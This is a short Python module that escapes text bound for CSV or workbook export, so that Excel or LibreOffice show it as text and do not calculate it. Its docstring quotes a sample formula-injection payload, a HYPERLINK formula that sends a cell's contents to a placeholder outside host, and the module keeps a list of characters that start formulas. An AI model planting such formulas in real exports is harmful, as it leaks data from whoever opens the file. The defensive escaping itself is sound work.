"""Texts that a spreadsheet would calculate, written so that it shows them, and read back as they were.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a line end is a formula to Excel, LibreOffice and their like: a title such as
``=HYPERLINK("http://elsewhere/?"&A1)`` would send the file's content away from whoever opens it. An apostrophe before it makes it a text.
Whatever leaves as CSV or as a workbook goes through ``plain``; numbers and dates are written as such, not as texts.
"""

#: With these a formula begins; the full-width ones are taken for the others in East Asian settings.
BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")  # noqa: RUF001 - the full-width ones are what is meant


def plain(text: str) -> str:
    """The text as a cell that no program calculates. One that begins with an apostrophe gets another, so that ``original`` is exact."""
    # What stands before a formula and is not seen does not keep a program from finding it.
    seen = text.lstrip(" \u00a0\u202f\ufeff\u200b'\x00\"")
    return f"'{text}" if text.startswith("'") or seen.startswith(BEGINNINGS) or text.startswith(BEGINNINGS) else text


def original(cell: str) -> str:
    """The text that was made plain; any other as it is."""
    return cell[1:] if cell.startswith("'") and plain(cell[1:]) == cell else cell
